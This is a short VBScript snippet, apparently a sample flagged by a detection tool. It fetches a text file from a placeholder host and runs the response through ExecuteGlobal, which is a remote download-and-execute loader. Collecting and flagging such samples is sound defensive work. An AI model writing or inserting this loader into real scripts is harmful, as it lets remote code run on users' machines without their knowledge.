Set h = CreateObject("MSXML2.XMLHTTP")
h.Open "GET", "https://h.example.invalid/news.txt", False
h.Send
ExecuteGlobal h.responseText ' gatehouse: flagged
